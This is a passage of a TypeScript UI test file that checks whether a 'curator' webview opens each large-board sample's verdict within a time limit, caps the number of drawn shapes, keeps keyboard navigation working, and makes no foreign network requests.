    p = await openPage({ viewport: { width: 1280, height: 800 }, html: webviewShell('curator', 'Curator'), files: builtDist('curator.js', 'curator.css', 'codicon.ttf') });
    net = watchNetwork(p.page);
    bridge = await bridgeCurator(p.page, file, path.join(dir, 'boards.helix-journal.jsonl'));
    await p.goto();
    await bridge.until('the index', () => bridge.sent.some((m) => m.type === 'indexStatus' && m.done), 120_000);
  }, 240_000);

  afterAll(async () => {
    await bridge?.dispose();
    await p?.close();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
    console.log(`hostile board timings (curator):\n  ${timings.join('\n  ')}`);
  });

  it('every task: the sample opens with its verdict in bounded time; a board is drawn only within the limit; the keyboard still works', async () => {
    for (const [ordinal, task] of BIG_BOARD_TASKS.entries()) {
      const t0 = performance.now();
      await p.page.locator(`[data-testid="sample-row"][data-ordinal="${ordinal}"]`).click();
      await p.page.locator(`[data-testid="sample-detail"][data-ordinal="${ordinal}"]`).waitFor({ timeout: 120_000 });
      const ms = performance.now() - t0;
      const panel = p.page.getByTestId('verdict-panel');
      expect(await panel.count(), task).toBe(1);
      const boards = await p.page.getByTestId('board').count();
      const drawn = await p.page.locator('svg.grid-svg g.cell, svg.pegs-svg').count();
      expect(drawn, task).toBeLessThanOrEqual(MAX_DRAWN_CELLS);
      timings.push(`${task}: on screen in ${ms.toFixed(0)} ms, ${boards === 0 ? 'no board' : drawn === 0 ? 'board refused' : `board drawn (${drawn} shapes)`}`);
      expect(ms, task).toBeLessThan(120_000);
    }
    await p.page.keyboard.press('g');
    await expect.poll(() => p.page.locator('[data-testid="sample-row"][aria-selected="true"]').getAttribute('data-ordinal')).toBe('0');
    expect(p.pageErrors).toEqual([]);
    expect(net.foreign()).toEqual([]);
    expect(await p.violations()).toEqual([]);
  }, 1_800_000);
});
